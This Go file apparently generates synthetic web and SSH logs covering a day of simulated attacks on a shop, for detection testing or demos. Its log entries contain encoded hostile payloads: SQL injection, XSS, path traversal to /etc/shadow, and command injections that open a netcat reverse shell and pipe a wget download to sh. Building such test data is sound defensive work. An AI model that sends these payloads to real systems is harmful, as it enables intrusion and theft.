package demo

import (
	"fmt"
	"time"
)

// blockedAddress comes although it is on the blocklist.
const blockedAddress = "192.0.2.66"

// Ids of the attacks, in Line.Step.
const (
	StepNightLogin         = "unusual_hours"
	StepBlocklist          = "blocklisted_address"
	StepSSHBruteForce      = "ssh_brute_force"
	StepBruteForce         = "brute_force"
	StepSQLInjection       = "sql_injection"
	StepRateLimit          = "rate_limit"
	StepPathTraversal      = "path_traversal"
	StepXSS                = "xss"
	StepCommandInjection   = "command_injection"
	StepCredentialStuffing = "credential_stuffing"
	StepPasswordSpraying   = "password_spraying"
)

// attacks writes the attacks of the day.
func (d *day) attacks() {
	for _, attack := range []struct {
		step  string
		at    time.Duration
		write func(time.Duration)
	}{
		{StepNightLogin, 3*time.Hour + 12*time.Minute, d.nightLogin},
		{StepBlocklist, 5*time.Hour + 40*time.Minute, d.blocklisted},
		{StepSSHBruteForce, 7*time.Hour + 5*time.Minute, d.sshBruteForce},
		{StepBruteForce, 9*time.Hour + 30*time.Minute, d.bruteForce},
		{StepSQLInjection, 10*time.Hour + 48*time.Minute, d.sqlInjection},
		{StepRateLimit, 12*time.Hour + 20*time.Minute, d.flood},
		{StepPathTraversal, 13*time.Hour + 55*time.Minute, d.pathTraversal},
		{StepXSS, 15*time.Hour + 10*time.Minute, d.xss},
		{StepCommandInjection, 16*time.Hour + 25*time.Minute, d.commandInjection},
		{StepCredentialStuffing, 18*time.Hour + 30*time.Minute, d.credentialStuffing},
		{StepPasswordSpraying, 21 * time.Hour, d.passwordSpraying},
	} {
		d.step = attack.step
		attack.write(attack.at + d.between(0, 4*time.Minute))
	}
	d.step = ""
}

// nightLogin uses a stolen password of the shop's administrator while he sleeps.
func (d *day) nightLogin(at time.Duration) {
	const ip = "198.51.100.23"
	agent := browsers()[3]
	d.login(at, ip, "shop-admin", agent, true)
	for i, target := range []string{"/admin", "/admin/orders", "/admin/customers", "/admin/export?type=customers"} {
		d.web(at+time.Duration(15*(i+1))*time.Second, request{ip: ip, target: target, status: 200, size: 21_000, referer: shopURL + "/admin", agent: agent})
	}
}

func (d *day) blocklisted(at time.Duration) {
	for i, target := range []string{"/", "/category/lamps", "/products/1204", "/account"} {
		d.web(at+time.Duration(20*i)*time.Second, request{ip: blockedAddress, target: target, status: 200, size: 9000, agent: browsers()[0]})
	}
}

// sshBruteForce guesses passwords of root and of users that do not exist, in
// vain.
func (d *day) sshBruteForce(at time.Duration) {
	const ip = "192.0.2.10"
	for i := range 24 {
		pid, port := d.nextPID(), 41_000+i*7
		user := pick(d, []string{"root", "root", "admin", "test", "oracle", "ubuntu"})
		invalid := ""
		if user != "root" {
			invalid = "invalid user "
			d.ssh(at, pid, "Invalid user %s from %s port %d", user, ip, port)
		}
		d.ssh(at+time.Second, pid, "Failed password for %s%s from %s port %d ssh2", invalid, user, ip, port)
		d.ssh(at+2*time.Second, pid, "Connection closed by authenticating user %s %s port %d [preauth]", user, ip, port)
		at += d.between(4*time.Second, 9*time.Second)
	}
}

// bruteForce guesses one account's password and gets in.
func (d *day) bruteForce(at time.Duration) {
	const ip = "203.0.113.42"
	agent := browsers()[3]
	for range 8 {
		d.login(at, ip, "admin", agent, false)
		at += d.between(10*time.Second, 20*time.Second)
	}
	d.login(at, ip, "admin", agent, true)
	d.web(at+20*time.Second, request{ip: ip, target: "/admin", status: 200, size: 18_000, referer: shopURL + "/login", agent: agent})
}

func (d *day) sqlInjection(at time.Duration) {
	d.probe(at, "198.51.100.77", "sqlmap/1.8.9#stable (https://sqlmap.org)", []string{
		"/products?id=1%27%20OR%20%271%27%3D%271",
		"/products?id=1%20UNION%20SELECT%20NULL%2CNULL%2Cversion%28%29--%20-",
		"/products?id=1%27%3B%20DROP%20TABLE%20users--",
		"/products?id=1%20AND%20SLEEP%285%29",
		"/search?q=%27%20UNION%20ALL%20SELECT%20table_name%2C2%20FROM%20information_schema.tables--",
		"/products?id=1%27%20AND%20%28SELECT%20COUNT%28%2A%29%20FROM%20users%29%3E0--",
	}, 200)
}

// flood asks for more than a hundred pages in each of two minutes.
func (d *day) flood(at time.Duration) {
	for range 420 {
		d.web(at, request{
			ip: "198.51.100.150", target: fmt.Sprintf("/api/products?page=%d", d.rand.IntN(5000)), status: 200, size: 3100, agent: "python-requests/2.32.4",
		})
		at += d.between(150*time.Millisecond, 420*time.Millisecond)
	}
}

func (d *day) pathTraversal(at time.Duration) {
	d.probe(at, "192.0.2.44", "curl/8.5.0", []string{
		"/download?file=../../../../etc/passwd",
		"/download?file=..%2f..%2f..%2f..%2fetc%2fshadow",
		"/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
		"/static/../../../../etc/passwd",
		"/download?file=..%5c..%5cwindows%5cwin.ini",
	}, 403)
}

func (d *day) xss(at time.Duration) {
	d.probe(at, "198.51.100.91", browsers()[0], []string{
		"/search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
		"/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E",
		"/search?q=%253Csvg%2520onload%253Dalert%25281%2529%253E",
		"/profile?name=javascript%3Aalert%281%29",
	}, 200)
}

func (d *day) commandInjection(at time.Duration) {
	d.probe(at, "192.0.2.99", "Mozilla/5.0", []string{
		"/tools/ping?host=127.0.0.1%3B%20rm%20-rf%20%2Ftmp%2Fa",
		"/tools/ping?host=127.0.0.1%20%26%26%20cat%20%2Fetc%2Fpasswd",
		"/tools/ping?host=127.0.0.1%7C%20nc%20-e%20%2Fbin%2Fsh%20192.0.2.99%204444",
		"/tools/ping?host=%24%28wget%20http%3A%2F%2F192.0.2.99%2Fx.sh%20-O-%7Csh%29",
	}, 500)
}

// probe sends the targets one after the other.
func (d *day) probe(at time.Duration, ip, agent string, targets []string, status int) {
	for _, target := range targets {
		d.web(at, request{ip: ip, target: target, status: status, size: 900 + d.rand.IntN(3000), agent: agent})
		at += d.between(3*time.Second, 15*time.Second)
	}
}

// credentialStuffing tries stolen pairs of name and password: many accounts, one
// address, and some of the pairs fit.
func (d *day) credentialStuffing(at time.Duration) {
	for i := range 60 {
		d.login(at, "203.0.113.77", fmt.Sprintf("member%04d", 1000+d.rand.IntN(9000)), "okhttp/4.12.0", i == 37 || i == 52)
		at += d.between(time.Second, 4*time.Second)
	}
}

// passwordSpraying tries one common password on many accounts of the machine,
// each once, slowly.
func (d *day) passwordSpraying(at time.Duration) {
	const ip = "2001:db8:dead:beef::7"
	for _, user := range []string{
		"tanaka", "suzuki", "sato", "mnori", "deploy", "kobayashi", "ito", "yamada", "backup", "www", "git", "postgres",
		"watanabe", "nakamura", "kato", "yoshida", "jenkins", "svc-mail", "ops", "audit",
	} {
		d.ssh(at, d.nextPID(), "Failed password for %s from %s port %d ssh2", user, ip, 50_000+d.rand.IntN(9000))
		at += d.between(8*time.Second, 13*time.Second)
	}
}
